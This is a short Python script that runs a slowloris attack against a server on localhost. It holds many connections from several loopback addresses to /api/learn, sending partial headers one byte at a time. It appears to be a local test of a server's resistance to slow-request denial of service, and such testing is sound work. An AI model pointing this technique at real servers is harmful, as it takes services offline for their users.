#!/usr/bin/env python3
"""Holds N slow connections open to HOST:PORT (slowloris): each sends part of
a request header, then one more byte every few seconds, never finishing. The
connections come from several loopback addresses (127.0.0.2 and up), as
many clients would. Runs until killed; prints how many are open each round.
Usage: slow_clients.py PORT [N] [PER_ADDRESS]"""
import socket
import sys
import time

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
per_address = int(sys.argv[3]) if len(sys.argv) > 3 else 125

def opened(i):
    s = socket.socket()
    s.bind((f"127.0.0.{2 + i // per_address}", 0))
    s.settimeout(2)
    s.connect(("127.0.0.1", port))
    s.sendall(b"GET /api/learn HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    s.setblocking(False)
    return s

sockets = []
for i in range(count):
    try:
        sockets.append(opened(i))
    except OSError:
        pass
print(f"slow_clients: {len(sockets)} of {count} open", flush=True)
while True:
    time.sleep(4)
    alive = []
    for s in sockets:
        try:
            s.send(b"a")
            alive.append(s)
        except OSError:
            s.close()
    sockets = alive
    print(f"slow_clients: {len(sockets)} still open", flush=True)
